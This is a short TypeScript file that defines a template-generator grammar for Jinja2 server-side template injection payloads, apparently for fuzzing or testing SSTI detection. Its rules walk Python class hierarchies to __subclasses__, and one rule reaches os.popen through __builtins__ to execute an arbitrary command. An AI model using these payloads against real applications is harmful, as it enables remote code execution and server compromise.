// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the notation of templates
import { templateGenerator } from '../template-generator.js';

/** Jinja: from a literal up to object and down to everything. */
export const jinjaClasses = templateGenerator({
  name: 'jinja-classes',
  engines: ['jinja2'],
  rules: {
    start: [
      '{before}{o}{s}{literal}.__class__.{up}.__subclasses__(){s}{c}{after}',
      '{o}{s}{literal}.__class__.{up}.__subclasses__()[{number}]{s}{c}',
      "{l}% for c in {literal}.__class__.{up}.__subclasses__() %{r}{l}% if '{class}' in c.__name__ %{r}{o} c {c}{l}% endif %{r}{l}% endfor %{r}",
      "{l}% for c in {literal}.__class__.{up}.__subclasses__() %{r}{l}% if c.__name__ == '{class}' %{r}{o} c.__init__.__globals__['__builtins__']['__import__']('os').popen('{command}').read() {c}{l}% endif %{r}{l}% endfor %{r}",
      '{o} {literal}.__class__ {c}',
      '{o}{literal}.__class__.__mro__|last{c}',
      '{l}% set x = {literal}.__class__.{up} %{r}{o} x.__subclasses__()|length {c}',
    ],
    literal: ["''", '""', '[]', '()', 'dict()', "'{letters}'", '(1,)', '{number}'],
    up: ['__mro__[1]', '__base__', '__bases__[0]', '__mro__[-1]', 'mro()[1]', '__class__.__base__'],
    class: ['catch_warnings', 'Popen', '_wrap_close', 'WarningMessage', 'Quitter'],
  },
});
